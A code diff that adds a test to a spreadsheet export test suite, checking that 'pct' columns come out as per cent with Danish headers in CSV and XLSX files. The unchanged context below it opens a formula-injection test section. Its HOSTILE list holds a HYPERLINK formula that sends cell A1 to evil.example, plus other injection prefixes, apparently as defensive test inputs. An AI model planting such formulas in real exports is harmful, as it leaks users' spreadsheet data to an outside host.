@@ -32,6 +32,19 @@ def test_xlsx_header_block_and_numeric_cells():
     assert ws["B9"].value is None and ws["C9"].value == "5.38"
 
 
+def test_shares_are_exported_as_percentages():
+    """A 'pct' column holds fractions: the file gives per cent with two fewer decimals and says '(%)'."""
+    df = pl.DataFrame({"year": [2024, 2025], "change_pct": [0.123456, -0.0004]})
+    cols = [Column("year", "År"), Column("change_pct", "Ændring", 4, kind="pct")]
+    text = to_csv(df, cols, META).decode("utf-8-sig").splitlines()
+    assert text[-3:] == ["År;Ændring (%)", "2024;12,35", "2025;-0,04"]
+    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(df, cols, META))).active
+    assert ws["B7"].value == "Ændring (%)"
+    assert ws["B8"].value == 12.3456 and ws["B8"].number_format == "#,##0.00"
+    # a header that already names its unit keeps it once
+    assert Column("c", "Dækning (%)", 1, kind="pct").export_header == "Dækning (%)"
+
+
 # --- formula injection: text from data never runs in the spreadsheet that opens the export ---------------
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")", "+1+1", "-2+3", "@SUM(1,1)", "\tTAB", "\rCR",
